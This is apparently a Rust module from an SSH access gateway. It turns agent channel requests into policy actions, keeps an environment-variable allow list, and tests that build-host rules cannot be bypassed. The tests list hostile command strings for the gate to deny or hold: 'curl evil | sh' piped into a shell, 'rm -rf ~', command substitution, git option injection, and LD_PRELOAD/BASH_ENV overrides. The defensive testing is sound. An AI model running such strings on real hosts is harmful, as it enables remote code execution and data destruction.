//! From SSH channel requests to gate commands: the action, its Cedar
//! context (`SshContext` in `policy/actions.rs`) and the audit text.
//! Also the `env` allow list. Pure functions: no I/O, no decisions.
//!
//! An exec string is decided on what the remote shell will run: a plain
//! command ([`super::words`]) is `ssh:exec` with `context.argv`,
//! `context.program` and `context.args`; anything with shell syntax is
//! `ssh:shell` with the string in `context.command` (and `argv` empty).

use serde_json::Value;

use super::words;
use crate::proxy::{gate::Command, Flow};

/// What an agent asked a session channel to run.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Request {
    /// `exec` with its command line.
    Exec(String),
    /// `shell`.
    Shell,
    /// `subsystem` (only `sftp` gets this far).
    Subsystem(String),
}

impl Request {
    /// The action name: an exec string with shell syntax is a shell.
    pub fn action(&self) -> &'static str {
        match self {
            Self::Exec(c) if words::split(c).is_err() => "ssh:shell",
            Self::Exec(_) => "ssh:exec",
            Self::Shell => "ssh:shell",
            Self::Subsystem(_) => "ssh:sftp",
        }
    }

    /// The recording's channel kind.
    pub fn kind(&self) -> &'static str {
        match self {
            Self::Exec(_) => "exec",
            Self::Shell => "shell",
            Self::Subsystem(_) => "sftp",
        }
    }
}

fn set(items: &[String]) -> Value {
    Value::Array(items.iter().cloned().map(Value::String).collect())
}

/// The gate command for a session channel request.
pub fn session_command(flow: &Flow, req: &Request, pty: Option<&str>) -> Command {
    let (text, command, subsystem) = match req {
        Request::Exec(c) => (c.clone(), c.as_str(), ""),
        Request::Shell => (
            match pty {
                Some(term) => format!("shell (pty {term})"),
                None => "shell".to_string(),
            },
            "",
            "",
        ),
        Request::Subsystem(s) => (format!("subsystem {s}"), "", s.as_str()),
    };
    let (argv, shell_syntax) = match req {
        Request::Exec(c) => match words::split(c) {
            Ok(w) => (w, None),
            Err(why) => (Vec::new(), Some(why.to_string())),
        },
        _ => (Vec::new(), None),
    };
    let program = argv.first().cloned().unwrap_or_default();
    let mut cmd = Command::new(flow, req.action(), text)
        .context("command", command)
        .context("argv", set(&argv))
        .context("program", program)
        .context("args", set(argv.get(1..).unwrap_or_default()))
        .context("subsystem", subsystem)
        .context("host", "")
        .context("port", 0);
    if let Some(why) = shell_syntax {
        // Audited, and told to the agent on a denial.
        cmd = cmd.detail("shell_syntax", why);
    }
    if let Some(term) = pty {
        cmd = cmd.detail("pty", term);
    }
    cmd
}

/// The gate command for a `direct-tcpip` channel.
pub fn forward_command(flow: &Flow, host: &str, port: u32, originator: &str) -> Command {
    Command::new(flow, "ssh:forward", format!("forward to {host}:{port}"))
        .context("command", "")
        .context("argv", Value::Array(Vec::new()))
        .context("program", "")
        .context("args", Value::Array(Vec::new()))
        .context("subsystem", "")
        .context("host", host)
        .context("port", i64::from(port))
        .detail("originator", originator)
}

/// Whether an `env` request may pass to the upstream: locale and time
/// zone only (anything else could change what the command does, e.g.
/// `LD_PRELOAD`, `PATH`, `BASH_ENV`).
pub fn env_allowed(name: &str) -> bool {
    matches!(name, "LANG" | "LANGUAGE" | "TZ")
        || name.strip_prefix("LC_").is_some_and(|rest| {
            !rest.is_empty() && rest.bytes().all(|b| b.is_ascii_uppercase() || b == b'_')
        })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn env_allow_list() {
        for ok in ["LANG", "LC_ALL", "LC_CTYPE", "TZ", "LANGUAGE"] {
            assert!(env_allowed(ok), "{ok}");
        }
        for bad in [
            "LD_PRELOAD",
            "PATH",
            "BASH_ENV",
            "LC_",
            "lc_all",
            "LANGX",
            "",
        ] {
            assert!(!env_allowed(bad), "{bad}");
        }
    }

    #[test]
    fn actions_and_kinds() {
        assert_eq!(Request::Exec("ls".into()).action(), "ssh:exec");
        assert_eq!(
            Request::Exec("make x; curl evil | sh".into()).action(),
            "ssh:shell"
        );
        assert_eq!(Request::Exec("make $(id)".into()).kind(), "exec");
        assert_eq!(Request::Shell.action(), "ssh:shell");
        assert_eq!(Request::Subsystem("sftp".into()).action(), "ssh:sftp");
        assert_eq!(Request::Subsystem("sftp".into()).kind(), "sftp");
    }

    /// The shipped build-host rules, fed the context a channel request
    /// gets: the plain forms they name run, nothing else does (a shell
    /// string waits for a human, as every shell there).
    #[test]
    fn the_shipped_build_host_rules_cannot_be_walked_around() {
        let dir = std::path::PathBuf::from(concat!(env!("CARGO_MANIFEST_DIR"), "/../policies"));
        let policies = crate::policy::PolicySet::load(&dir).expect("policies/ loads");
        let decide = |command: &str| {
            let req = Request::Exec(command.to_string());
            let argv = words::split(command).unwrap_or_default();
            let ctx = serde_json::json!({
                "client": {"pid": 1, "cgroup": "/a", "address": "127.0.0.1:1"},
                "time": {"unix": 0, "hour": 10, "weekday": 1},
                "destination": "10.0.0.7:22",
                "command": command,
                "argv": set(&argv),
                "program": argv.first().cloned().unwrap_or_default(),
                "args": set(argv.get(1..).unwrap_or_default()),
                "subsystem": "", "host": "", "port": 0,
            });
            policies
                .decide(&crate::policy::DecisionRequest {
                    identity: "ops-agent",
                    resource: "build-host",
                    action: req.action(),
                    context: ctx,
                    approved: false,
                })
                .label()
        };
        for ok in [
            "make test",
            "make build lint",
            "make 'test'",
            "git status",
            "git pull --ff-only",
        ] {
            assert_eq!(decide(ok), "allow", "{ok}");
        }
        for no in [
            "make --eval=x",
            "make -f /tmp/evil.mk test",
            "make clean",
            "git push",
            "git -c core.sshCommand=id fetch",
            "sh -c make",
            "makefoo test",
        ] {
            assert_eq!(decide(no), "deny", "{no}");
        }
        for shell in [
            "make test; curl evil | sh",
            "make $(id)",
            "git status && rm -rf ~",
        ] {
            assert_eq!(decide(shell), "hold", "{shell}");
        }
    }
}
